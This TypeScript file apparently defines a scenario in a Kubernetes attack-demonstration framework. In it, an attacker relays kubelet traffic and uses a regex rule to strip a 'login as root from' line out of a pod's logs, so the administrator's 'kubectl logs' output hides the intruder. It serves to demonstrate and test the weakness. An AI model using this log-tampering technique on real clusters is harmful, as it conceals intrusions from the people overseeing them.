import { createObjects } from '../create-workloads';
import { playOf } from './play';
import { relayToKubelet } from './relay-to-kubelet';

export const logsRewritten = playOf({
  steps: [
    'admin: kubectl logs shop-1',
    'attacker: midplane attack --path logs --technique relay --rule \'replace: {stream: logs, match: …, with: ""}\'',
  ],
  async play(stage) {
    const { signal } = stage;
    const cluster = await stage.cluster();
    const intruder = `10.9.8.7-${stage.random.hex(4)}`;
    const lines = ['ready', `login as root from ${intruder}`, 'GET /health 200'];
    const script = `${lines.map((line) => `echo '${line}'`).join('; ')}; sleep 3600`;
    const container = { name: 'shop', image: 'midplane/shell', command: ['sh', '-c', script] };
    const object = {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: 'shop-1', namespace: 'default' },
      spec: { nodeName: 'node-1', containers: [container] },
    };
    await createObjects(cluster.admin, [{ path: '/api/v1/namespaces/default/pods', object }]);
    await cluster.whenRunning('node-1', 'default', 'shop-1');
    const read = 'kubectl logs shop-1';
    const before = await cluster.admin.logs({ namespace: 'default', pod: 'shop-1', signal });
    await stage.did('admin', read, oneLine(before.stdout));

    const attack = await relayToKubelet(stage, cluster, [
      { kind: 'replace', stream: 'logs', match: '/^login as root from .*\\n/', with: '' },
    ]);
    await stage.did(
      'attacker',
      'midplane attack --path logs --technique relay --rule \'replace: {stream: logs, match: …, with: ""}\'',
      'is at the node’s address, as far as the apiserver knows',
    );
    const after = await cluster.admin.logs({ namespace: 'default', pod: 'shop-1', signal });
    const log = oneLine(after.stdout);
    if (!after.ok) return stage.refused('admin', read, after.words);
    const answered = attack.loot.down().includes(intruder);
    if (!answered) throw new Error('the log did not come through the attacker');
    if (log.includes(intruder)) await stage.refused('admin', read, log);
    else await stage.gained('admin', read, log, 'the say in what the log does not say');
  },
});

function oneLine(log: Buffer): string {
  return log.toString('utf8').trim().replaceAll('\n', ' | ');
}
